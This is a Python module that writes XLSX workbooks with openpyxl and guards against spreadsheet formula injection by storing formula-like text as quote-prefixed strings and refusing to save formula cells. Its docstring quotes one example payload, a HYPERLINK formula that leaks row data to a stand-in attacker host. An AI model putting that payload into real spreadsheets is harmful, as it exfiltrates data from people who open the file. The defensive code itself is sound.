"""The one way the app writes a spreadsheet: no cell a reader's spreadsheet would run as a formula.

OWASP's CSV-injection rule: a cell that begins with `=`, `+`, `-`, `@`, a tab or a carriage return
is text, never a formula (a draft titled `=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")`
would otherwise leak the row to whoever opens the export). In XLSX the cell is written as a string
with Excel's "quote prefix" (what typing a leading apostrophe does), so it shows exactly as typed
and stays text even when someone edits it. (The app writes no CSV export; a CSV writer would
prepend the apostrophe itself, as OWASP says.)
Every workbook comes from `workbook()`, every row goes through `add_row`, every file out through
`save`, which refuses a workbook that still holds a formula (tests/test_spreadsheet_writers.py
checks that nothing else in the code builds or fills a workbook).
"""

from __future__ import annotations

import io
from collections.abc import Iterable

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def looks_like_formula(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def workbook(write_only: bool = False) -> Workbook:
    return Workbook(write_only=write_only)


def cell(ws, value, font: Font | None = None):
    """The value as the sheet should hold it: formula-like text as a quote-prefixed string cell."""
    if not looks_like_formula(value) and font is None:
        return value
    out = WriteOnlyCell(ws, value=value)  # a plain Cell: appends alike in write-only and normal sheets
    if looks_like_formula(value):
        out.data_type = "s"
        out.quotePrefix = True
    if font is not None:
        out.font = font
    return out


def add_row(ws, values: Iterable, font: Font | None = None) -> None:
    """Append one row; the only way rows get into a sheet the app writes."""
    ws.append([cell(ws, v, font) for v in values])


def save(book: Workbook, target=None) -> bytes | None:
    """Write the workbook to a path or stream, or return its bytes when `target` is None.

    A normal (not write-only) workbook is checked first: a formula cell here is a writer that went
    around `add_row`, and is refused rather than shipped.
    """
    if not book.write_only:
        for ws in book.worksheets:
            for row in ws.iter_rows():
                for c in row:
                    if c.data_type == "f":
                        raise ValueError(f"formula cell {ws.title}!{c.coordinate}: write rows with add_row")
    if target is not None:
        book.save(target)
        return None
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()

